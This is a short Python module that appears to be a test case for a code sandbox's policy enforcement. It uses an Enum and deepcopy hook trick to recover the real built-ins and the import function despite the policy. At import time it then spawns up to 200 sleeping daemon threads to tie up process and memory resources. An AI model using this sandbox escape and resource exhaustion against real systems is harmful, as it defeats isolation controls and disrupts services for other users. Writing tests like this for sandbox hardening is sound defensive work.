"""Leaves the policy at module level, which runs ahead of its call, and starts threads that wait.

They hold room for processes and memory while other calls are made.

Contained: they have the limits of what runs ahead, and other calls are answered in time.
"""

import copy
import json
from enum import Enum


def swap(member, memo):
    memo[id("__call__")] = "__globals__"
    return member


def reach():
    """The real built-ins; without a policy as with one."""
    odd = Enum("Odd", {"A": 1, "__deepcopy__": swap})
    reached = copy.deepcopy([odd.A, json.dumps.__call__])[1]
    return reached["__builtins__"]


load = reach()["__import__"]
threading, time = load("threading"), load("time")
threading.stack_size(32 << 10)
STARTED = []
try:
    for _ in range(200):
        one = threading.Thread(target=time.sleep, args=(30,), daemon=True)
        one.start()
        STARTED.append(one)
except RuntimeError:
    STARTED.append("no more")


def attack():
    return f"held: {len(STARTED)} threads"
